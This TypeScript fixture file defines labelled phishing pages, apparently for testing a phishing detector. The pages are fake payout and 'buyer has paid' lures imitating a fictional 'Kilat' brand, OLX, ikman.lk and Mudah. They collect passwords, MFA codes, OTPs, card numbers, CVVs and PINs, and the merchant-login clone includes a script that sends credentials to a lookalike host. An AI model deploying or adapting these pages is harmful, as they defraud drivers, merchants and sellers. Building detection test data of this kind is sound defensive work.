import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, jsonRoute, kilatCss, kilatLogo, KILAT_GREEN, walletCss } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-kilat-driver-payout-hold',
  label: 'phishing',
  kind: 'own-brand-driver-kit',
  url: 'https://kilat-driverpartner.com/payout/update',
  body: doc({
    title: 'Kilat Driver — Payout on hold',
    lang: 'en',
    css: kilatCss + `.warn{background:#fff4e5;border:1px solid #ffd08a;border-radius:10px;padding:12px 14px;font-size:14px;margin-bottom:16px}.box{max-width:440px;margin:30px auto}`,
    body: `<header class="kl-top">${kilatLogo()}<span class="muted">Driver Partner Centre</span></header>
<div class="box kl-card"><h2 style="margin-top:0">Your weekly payout is on hold</h2>
<div class="warn">₱ 7,842.50 in earnings for 9–15 June could not be transferred because your payout account details are incomplete. Update them within <b>48 hours</b> or the amount will be returned to the trip wallet and your account may be deactivated.</div>
<form id="drv" method="post" action="/payout/step2">
<label>Registered mobile number</label><input name="phone" type="tel" placeholder="+63 9XX XXX XXXX" required>
<label>Driver app password</label><input name="password" type="password" required>
<label>Payout bank / e-wallet</label><select name="bank"><option>GCash</option><option>Maya</option><option>BDO</option><option>BPI</option><option>Metrobank</option><option>UnionBank</option></select>
<label>Account number</label><input name="acct" required>
<button class="kl-btn" style="margin-top:18px">Continue</button></form>
<p class="muted" style="margin-top:14px">Need help? Chat with Driver Support in the app.</p></div>`,
  }),
  routes: {
    'kilat-driverpartner.com/payout/step2': htmlRoute(doc({
      title: 'Kilat Driver — Verify', css: kilatCss,
      body: `<header class="kl-top">${kilatLogo()}</header><div class="kl-wrap" style="max-width:440px"><div class="kl-card"><h3>Verify it's you</h3><p class="muted">Enter the 6-digit code we sent by SMS. This code is required to release your payout.</p><form method="post" action="/payout/done"><input name="otp" maxlength="6" inputmode="numeric"><button class="kl-btn" style="margin-top:14px">Release payout</button></form></div></div>`,
    })),
  },
},
{
  id: 'zy-kilat-merchant-portal-clone',
  label: 'phishing',
  kind: 'own-brand-merchant-kit',
  url: 'https://merchant-kilat.app-login.net/auth/login?next=%2Fdashboard',
  body: doc({
    title: 'Kilat Merchant | Sign in',
    head: `<link rel="icon" href="https://merchant.kilat.app/favicon.ico"><link rel="stylesheet" href="https://merchant.kilat.app/static/css/main.8f3a1c.css">`,
    css: kilatCss + `.split{display:flex;min-height:100vh}.l{flex:1;background:${KILAT_GREEN};color:#fff;padding:60px}.l h1{font-size:34px}.r{width:460px;background:#fff;padding:60px 46px}@media(max-width:800px){.l{display:none}.r{width:100%}}`,
    body: `<div class="split"><div class="l">${kilatLogo(34)}<h1>Grow your store with Kilat Food &amp; Mart</h1><p>Manage menus, orders and payouts in one place.</p></div>
<div class="r"><h2>Sign in to Merchant Portal</h2><p class="muted">Use the email and password registered for your outlet.</p>
<form id="m" autocomplete="on"><label>Email</label><input type="email" name="email" required><label>Password</label><input type="password" name="password" required>
<div id="mfa" style="display:none"><label>Authenticator / SMS code</label><input name="code" maxlength="6" inputmode="numeric"></div>
<button class="kl-btn" style="margin-top:18px" id="b">Sign in</button></form>
<p class="muted" style="margin-top:16px"><a href="#">Forgot password?</a> · New merchant? <a href="#">Register your outlet</a></p></div></div>
<script>
var s=0;document.getElementById("m").addEventListener("submit",function(e){e.preventDefault();
 fetch("https://merchant-kilat.app-login.net/api/v2/session",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify(Object.fromEntries(new FormData(this)))}).then(function(r){return r.json()}).then(function(j){
  if(j.mfa&&!s){s=1;document.getElementById("mfa").style.display="block";document.getElementById("b").textContent="Verify";return}
  location.href="https://merchant.kilat.app/dashboard";});
});
</script>`,
  }),
  routes: {
    'merchant-kilat.app-login.net/api/v2/session': jsonRoute({ mfa: true }),
  },
},
{
  id: 'zy-kilat-safedeal-buyer-paid-card-ph',
  label: 'phishing',
  kind: 'classifieds-payout-kit',
  url: 'https://kilat-safedeal.com/receive/ord-88241930',
  body: doc({
    title: 'Kilat Safe Deal — Receive payment',
    css: kilatCss + `.ord{display:flex;gap:14px;align-items:center;border:1px solid #e3ebe8;border-radius:12px;padding:12px}.ord .ph{width:70px;height:70px;border-radius:8px;background:#dde7e3;display:flex;align-items:center;justify-content:center;font-size:30px}
.paid{background:#e8f8f1;color:#0b6b48;border-radius:10px;padding:12px;font-size:14px;margin:14px 0}.row{display:flex;gap:10px}.row>div{flex:1}`,
    body: `<header class="kl-top">${kilatLogo()}<span class="muted">Safe Deal · Buyer protection</span></header>
<div class="kl-wrap" style="max-width:480px"><div class="kl-card">
<div class="ord"><div class="ph">📱</div><div><b>iPhone 13 128GB Midnight — slightly used</b><div class="muted">Order #ORD-88241930 · Quezon City</div><div style="font-weight:700;color:#0b6b48">₱ 18,500.00</div></div></div>
<div class="paid">✅ The buyer <b>Jerome D.</b> has paid ₱18,500.00 through Kilat Safe Deal. The amount is reserved for you. Para matanggap ang bayad, ilagay ang card kung saan ipapadala ang pera.</div>
<form id="rc" method="post" action="/receive/confirm">
<label>Cardholder name</label><input name="holder" required>
<label>Debit card number (Visa / Mastercard)</label><input name="card_number" inputmode="numeric" maxlength="19" placeholder="0000 0000 0000 0000" required>
<div class="row"><div><label>Expiry</label><input name="exp" placeholder="MM/YY" required></div><div><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
<label>Current card balance (for verification)</label><input name="balance" inputmode="numeric" placeholder="₱">
<button class="kl-btn" style="margin-top:18px">Receive ₱18,500.00</button></form>
<p class="muted" style="margin-top:12px">Funds are credited within 15 minutes. Kilat Safe Deal is protected by 3-D Secure.</p></div></div>`,
  }),
  routes: {
    'kilat-safedeal.com/receive/confirm': htmlRoute(doc({
      title: '3-D Secure',
      css: 'body{font-family:Arial;background:#f2f2f2}.b{max-width:380px;margin:40px auto;background:#fff;padding:22px;border:1px solid #ddd}',
      body: '<div class="b"><div style="display:flex;justify-content:space-between"><b>Verified by Visa</b><b>Mastercard ID Check</b></div><p>To receive ₱18,500.00 from KILAT SAFE DEAL, enter the one-time password sent to your registered mobile number.</p><form method="post" action="/receive/otp"><input name="otp" maxlength="6" style="width:100%;padding:10px"><button style="width:100%;margin-top:10px;padding:10px">Submit</button></form></div>',
    })),
  },
},
{
  id: 'zy-kilat-jual-pembeli-sudah-bayar',
  label: 'phishing',
  kind: 'classifieds-payout-kit',
  url: 'https://kilat-aman.id/terima-dana/?inv=KJ-2025-041187',
  body: doc({
    title: 'Kilat Jual | Konfirmasi Penerimaan Dana',
    lang: 'id',
    css: kilatCss + `.sum{display:flex;justify-content:space-between;border-bottom:1px dashed #d6e2dd;padding:8px 0;font-size:14px}.banks{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin-top:8px}.banks label{border:1px solid #cfdcd7;border-radius:8px;padding:10px;text-align:center;margin:0;cursor:pointer}.banks input{display:none}.banks input:checked+span{color:${KILAT_GREEN};font-weight:700}`,
    body: `<header class="kl-top">${kilatLogo()}<span class="muted">Kilat Jual · Transaksi Aman</span></header>
<div class="kl-wrap" style="max-width:500px"><div class="kl-card"><h3 style="margin-top:0">Pembeli sudah melakukan pembayaran</h3>
<div class="sum"><span>Barang</span><b>Kulkas 2 pintu Sharp SJ-246</b></div><div class="sum"><span>Harga</span><b>Rp 2.350.000</b></div><div class="sum"><span>Ongkir (ditanggung pembeli)</span><b>Rp 85.000</b></div><div class="sum"><span>Status</span><b style="color:#0b6b48">DIBAYAR — menunggu konfirmasi penjual</b></div>
<p style="font-size:14px">Untuk mencairkan dana ke rekening Anda, pilih bank dan masukkan data kartu untuk verifikasi pemilik rekening.</p>
<form method="post" action="/terima-dana/proses">
<div class="banks"><label><input type="radio" name="bank" value="BCA" checked><span>BCA</span></label><label><input type="radio" name="bank" value="BRI"><span>BRI</span></label><label><input type="radio" name="bank" value="Mandiri"><span>Mandiri</span></label><label><input type="radio" name="bank" value="BNI"><span>BNI</span></label><label><input type="radio" name="bank" value="BSI"><span>BSI</span></label><label><input type="radio" name="bank" value="CIMB"><span>CIMB</span></label></div>
<label>Nama pemilik rekening</label><input name="nama" required>
<label>Nomor kartu ATM/debit</label><input name="kartu" maxlength="19" required>
<label>Berlaku s/d</label><input name="exp" placeholder="BB/TT" required>
<label>CVV/CVC</label><input name="cvv" maxlength="3" required>
<button class="kl-btn" style="margin-top:18px">Terima Dana Rp 2.350.000</button></form></div></div>`,
  }),
},
{
  id: 'zy-olx-pk-delivery-payment-urdu',
  label: 'phishing',
  kind: 'classifieds-payout-kit',
  url: 'https://olx-pk.delivery-pay.site/order/73119/receive',
  body: doc({
    title: 'OLX Delivery | Payment Received',
    lang: 'ur',
    css: `body{margin:0;font-family:Arial,"Noto Nastaliq Urdu",sans-serif;background:#f2f4f5}.h{background:#002f34;color:#fff;padding:14px 20px;font:900 28px Arial}.h span{color:#23e5db}
.c{max-width:460px;margin:20px auto;background:#fff;border-radius:6px;padding:22px}.u{direction:rtl;text-align:right;font-size:17px;line-height:1.9;background:#e6fbfa;padding:12px;border-radius:6px}
input{width:100%;box-sizing:border-box;padding:12px;border:2px solid #002f34;border-radius:4px;margin:5px 0 12px;font-size:15px}button{width:100%;background:#002f34;color:#fff;border:0;padding:14px;font-weight:700;border-radius:4px}`,
    body: `<div class="h">OLX <span style="font:400 14px Arial">Delivery</span></div>
<div class="c"><h3>Honda CD 70 2021 — Rs 118,000</h3><p class="u">خریدار نے OLX ڈیلیوری کے ذریعے ادائیگی کر دی ہے۔ رقم وصول کرنے کے لیے اپنے ڈیبٹ کارڈ کی تفصیلات درج کریں۔ رقم 10 منٹ میں آپ کے کارڈ پر منتقل ہو جائے گی۔</p>
<form method="post" action="/order/73119/card">
<label>Card number</label><input name="pan" maxlength="19"><label>Expiry (MM/YY)</label><input name="exp"><label>CVC</label><input name="cvc" maxlength="3"><label>Card PIN (for ATM cash-out)</label><input name="pin" type="password" maxlength="4">
<button>رقم وصول کریں — Receive Rs 118,000</button></form></div>`,
  }),
},
{
  id: 'zy-ikman-payment-received-sinhala',
  label: 'phishing',
  kind: 'classifieds-payout-kit',
  url: 'https://ikman-lk.safe-pay.online/pay/ad-5512093',
  body: doc({
    title: 'ikman.lk | ගෙවීම ලැබී ඇත',
    lang: 'si',
    css: `body{margin:0;font-family:"Noto Sans Sinhala",Arial;background:#f5f5f5}.h{background:#149777;color:#fff;padding:12px 20px;font:700 24px Arial}.h i{color:#ffc800;font-style:normal}
.c{max-width:440px;margin:20px auto;background:#fff;padding:22px;border-radius:6px}.ok{background:#e8f6f2;border-left:4px solid #149777;padding:10px;font-size:15px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #ccc;border-radius:4px;margin:5px 0 12px}button{width:100%;padding:13px;background:#ffc800;border:0;font-weight:700;border-radius:4px}`,
    body: `<div class="h">ikman<i>.lk</i></div>
<div class="c"><p class="ok">✔ ඔබගේ දැන්වීම "Samsung Galaxy A54 5G" සඳහා ගැනුම්කරු රු. 92,500 ක් ගෙවා ඇත. මුදල් ලබා ගැනීමට ඔබගේ කාඩ්පත් විස්තර ඇතුළත් කරන්න.</p>
<form method="post" action="/pay/ad-5512093/card"><label>කාඩ්පත් අංකය</label><input name="card"><label>කල් ඉකුත් වන දිනය</label><input name="exp" placeholder="MM/YY"><label>CVV</label><input name="cvv" maxlength="3"><label>ජංගම දුරකථන අංකය</label><input name="mobile"><button>මුදල් ලබා ගන්න</button></form>
<p style="font-size:11px;color:#999">Protected by ikman Safe Pay · Saltside Technologies</p></div>`,
  }),
},
{
  id: 'zy-mudah-poslaju-terima-bayaran-chain',
  label: 'phishing',
  kind: 'classifieds-payout-kit',
  url: 'https://tinyurl.com/mudah-bayaran-88',
  routes: {
    'tinyurl.com/mudah-bayaran-88': redirectRoute(301, 'https://mudah-poslaju.com/penjual/terima?id=991204'),
    'mudah-poslaju.com/penjual/terima': htmlRoute(doc({
      title: 'Mudah.my × Pos Laju | Terima Bayaran',
      lang: 'ms',
      css: `body{margin:0;font-family:Arial;background:#f3f3f3}.h{display:flex;justify-content:space-between;align-items:center;background:#fff;padding:12px 20px;border-bottom:3px solid #e21836}.h b{color:#e21836;font-size:24px}
.c{max-width:460px;margin:18px auto;background:#fff;padding:22px;border-radius:8px}.steps{font-size:13px;color:#666}input{width:100%;box-sizing:border-box;padding:11px;margin:4px 0 12px;border:1px solid #ccc;border-radius:4px}button{width:100%;background:#e21836;color:#fff;border:0;padding:13px;border-radius:4px;font-size:15px}`,
      body: `<div class="h"><b>mudah.my</b><span style="color:#555;font-weight:700">Pos Laju</span></div>
<div class="c"><h3>Bayaran diterima: RM 1,250.00</h3><p class="steps">Pembeli telah membayar untuk iklan "Sofa L-shape 3+2 kain baldu". Pos Laju akan mengambil barang di alamat anda selepas bayaran dipindahkan.</p>
<form method="post" action="/penjual/kad">
<label>Bank</label><select name="bank" style="width:100%;padding:11px;margin:4px 0 12px"><option>Maybank</option><option>CIMB</option><option>Public Bank</option><option>RHB</option><option>Hong Leong</option><option>Bank Islam</option></select>
<label>No. kad debit</label><input name="kad" maxlength="19"><label>Tarikh luput</label><input name="luput" placeholder="BB/TT"><label>CVV</label><input name="cvv" maxlength="3"><label>Baki akaun semasa</label><input name="baki" placeholder="RM">
<button>Terima RM 1,250.00</button></form></div>`,
    })),
  },
},
];
